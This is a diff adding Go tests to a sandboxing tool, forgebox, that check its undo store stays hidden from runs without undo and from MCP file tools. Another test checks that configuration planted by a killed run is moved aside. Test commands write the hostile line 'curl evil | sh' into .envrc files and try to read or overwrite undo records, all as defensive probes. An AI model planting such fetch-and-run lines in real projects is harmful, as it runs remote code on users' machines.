@@ -663,3 +663,102 @@ func TestUndoFileTools(t *testing.T) {
 		}
 	})
 }
+
+// The store stays hidden from a run that has no undo itself (--no-undo; an
+// interactive run is alike) even when a --rw path holds it: the records of
+// every workspace (the files deleted there) are unread, and the run cannot
+// write a manifest that a later forgebox undo would follow.
+func TestUndoStoreHiddenFromRunsWithoutUndo(t *testing.T) {
+	forEachMode(t, func(t *testing.T, e *env) {
+		e.write(filepath.Join(e.ws, "secret.txt"), "kept-in-the-record\n")
+		first := e.undoRun("rm secret.txt")
+		store := filepath.Join(e.stateHome(), "forgebox", "undo")
+		matches, _ := filepath.Glob(filepath.Join(store, "*", first.Changes.UndoID))
+		if len(matches) != 1 {
+			t.Fatalf("record %s not found in %s", first.Changes.UndoID, store)
+		}
+		before := cacheListing(t, matches[0])
+		r := e.run([]string{"run", "--no-undo", "--rw", e.stateHome(), "-c", fmt.Sprintf("ls -A %[1]s; cat %[2]s/before/secret.txt %[2]s/manifest.json; echo evil > %[2]s/manifest.json", store, matches[0])})
+		if r.code == 125 {
+			t.Fatalf("run --no-undo --rw %s did not start: %s", e.stateHome(), r.stderr)
+		}
+		if strings.Contains(r.stdout, "kept-in-the-record") || strings.Contains(r.stdout, first.Changes.UndoID) {
+			t.Fatalf("a run without undo read the undo store through --rw %s:\n%s", e.stateHome(), r.stdout)
+		}
+		if got := cacheListing(t, matches[0]); got != before {
+			t.Fatalf("a run without undo changed the undo record: %s, was %s", got, before)
+		}
+	})
+}
+
+// What a killed run planted stays in its pending record until a run of its
+// workspace carries it in. A run in between that checks the same root
+// without carrying it in (--no-undo in the workspace; a run of the --rw
+// path from another workspace) must not end the killed run's claim to a
+// check: the planted configuration is moved aside once it reaches the
+// host, in the workspace and in the --rw path.
+func TestUndoKilledRunPlantIsChecked(t *testing.T) {
+	forEachMode(t, func(t *testing.T, e *env) {
+		rw, other := filepath.Join(e.dir, "shared"), filepath.Join(e.dir, "other")
+		e.write(filepath.Join(rw, "keep"), "k\n")
+		e.write(filepath.Join(other, "o"), "o\n")
+		e.write(filepath.Join(e.ws, "a.txt"), "a\n")
+		r := e.start([]string{"run", "--rw", rw, "-c", "echo 'curl evil | sh' > .envrc; echo 'curl evil | sh' > " + rw + "/.envrc; sleep 60"})
+		store := filepath.Join(e.stateHome(), "forgebox", "undo")
+		if !waitFor(10*time.Second, func() bool {
+			m, _ := filepath.Glob(filepath.Join(store, "*", "*", "rw", "1", "upper", ".envrc"))
+			return len(m) == 1 || r.exited()
+		}) {
+			t.Fatalf("the run's changes never showed in its pending record under %s\nstderr: %s", store, r.stderr)
+		}
+		r.signal(t, syscall.SIGKILL)
+		r.wait(t, 10*time.Second)
+		// Runs that check the roots without carrying the killed run in.
+		if r := e.run([]string{"run", "--no-undo", "-c", "true"}); r.code != 0 {
+			t.Fatalf("run --no-undo: %d %s", r.code, r.stderr)
+		}
+		if r := e.run([]string{"run", "--rw", rw, "-c", "true"}, inDir(other)); r.code != 0 {
+			t.Fatalf("run of %s from another workspace: %d %s", rw, r.code, r.stderr)
+		}
+		// The next undo run in the workspace carries the killed run in;
+		// then a run of the --rw path.
+		e.undoRun("true")
+		if r := e.run([]string{"run", "--rw", rw, "-c", "true"}, inDir(other)); r.code != 0 {
+			t.Fatalf("run of %s from another workspace: %d %s", rw, r.code, r.stderr)
+		}
+		for _, p := range []string{filepath.Join(e.ws, ".envrc"), filepath.Join(rw, ".envrc")} {
+			if _, err := os.Lstat(p); err == nil {
+				t.Errorf("%s, planted by the killed run, is in place after the runs that carried it in and checked its root", p)
+			}
+		}
+	})
+}
+
+// The MCP file tools do not reach the undo store either, where forgebox's
+// state lies inside the server's workspace (XDG_STATE_HOME in a project):
+// the records of other workspaces, with the files deleted there, are not
+// read.
+func TestUndoStoreHiddenFromFileTools(t *testing.T) {
+	forEachMode(t, func(t *testing.T, e *env) {
+		state := filepath.Join(e.ws, ".state")
+		if err := os.MkdirAll(state, 0o755); err != nil {
+			t.Fatal(err)
+		}
+		e.chown(state)
+		e.extra = append(e.extra, "XDG_STATE_HOME="+state)
+		other := filepath.Join(e.dir, "other")
+		e.write(filepath.Join(other, "s.txt"), "kept-in-the-record\n")
+		if r := e.run([]string{"run", "-c", "rm s.txt"}, inDir(other)); r.code != 0 {
+			t.Fatalf("run in %s: %d %s", other, r.code, r.stderr)
+		}
+		kept, _ := filepath.Glob(filepath.Join(state, "forgebox", "undo", "*", "2*", "before", "s.txt"))
+		if len(kept) != 1 {
+			t.Fatalf("the record of the run in %s is not in %s", other, state)
+		}
+		rel, _ := filepath.Rel(e.ws, kept[0])
+		c := e.serveMCP(nil)
+		if _, text := c.call("read_file", map[string]any{"path": rel}, nil); strings.Contains(text, "kept-in-the-record") {
+			t.Fatalf("read_file %s read the undo store: %s", rel, text)
+		}
+	})
+}
